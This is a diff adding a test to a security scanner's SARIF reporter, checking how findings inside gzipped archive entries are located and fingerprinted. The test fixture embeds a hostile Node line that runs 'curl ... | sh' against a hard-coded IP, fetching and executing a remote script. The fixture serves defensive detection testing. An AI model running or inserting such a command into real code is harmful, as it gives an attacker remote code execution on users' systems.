@@ -1,5 +1,7 @@
 import assert from 'node:assert/strict';
-import { readFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { gzipSync } from 'node:zlib';
 import { join, relative } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { describe, it } from 'node:test';
@@ -100,6 +102,35 @@ describe('SARIF 2.1.0 reporter', () => {
     for (const x of results) assert.ok(x.locations?.[0]?.physicalLocation?.artifactLocation?.uri, JSON.stringify(x.locations));
     assert.equal(results[0]!.locations![0]!.physicalLocation!.artifactLocation!.uri, report.autorun[0]?.file ?? 'a%20b/%23x%25.js');
     assert.match(results[0]!.message.text!, /project-wide finding/);
+  });
+
+  it('a finding inside an archive is shown on the archive (the file in the repo), the entry as its nested artifact', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'lurescan-sarif-nested-'));
+    try {
+      mkdirSync(join(dir, 'lib'));
+      const payload = "const cp = require('child_process');\n\ncp.exec('curl -s http://45.61.160.14/s | sh');\n";
+      writeFileSync(join(dir, 'lib', 'loader.js.gz'), gzipSync(Buffer.from(payload)));
+      const report = await scan(dir);
+      assert.deepEqual(report.archives, ['lib/loader.js.gz']);
+      const inner = report.findings.find((f) => f.file === 'lib/loader.js.gz/loader.js' && f.line === 3);
+      assert.ok(inner, JSON.stringify(report.findings.map((f) => [f.ruleId, f.file, f.line])));
+      const run = assertValidSarif(renderSarif(report)).runs[0]!;
+      const r = run.results!.find((x) => x.ruleId === inner.ruleId && (x.properties as Record<string, unknown>).archiveEntry === 'loader.js')!;
+      const loc = r.locations![0]!.physicalLocation!;
+      assert.equal(loc.artifactLocation!.uri, 'lib/loader.js.gz');
+      assert.equal(loc.region!.startLine, 1);
+      assert.match(r.message.text!, /\(in the archive entry loader\.js, line 3\)$/);
+      assert.equal(run.artifacts![loc.artifactLocation!.index!]!.location!.uri, 'lib/loader.js.gz');
+      const nested = run.artifacts!.find((a) => a.location!.uri === 'loader.js')!;
+      assert.equal(run.artifacts![nested.parentIndex!]!.location!.uri, 'lib/loader.js.gz');
+      assert.equal(nested.hashes!['sha-256'], report.fileHashes!['lib/loader.js.gz/loader.js']);
+      // The fingerprint still tells entries of one archive apart: it hashes the entry's full path.
+      assert.equal(r.partialFingerprints!['lurescan/v1'], fingerprint(inner));
+      // No result points at a path that does not exist in the folder.
+      for (const x of run.results!) assert.doesNotMatch(x.locations![0]!.physicalLocation!.artifactLocation!.uri!, /\.gz\//);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
   });
 
   it('the schema check has teeth: startLine 0 or an unknown level is rejected', async () => {
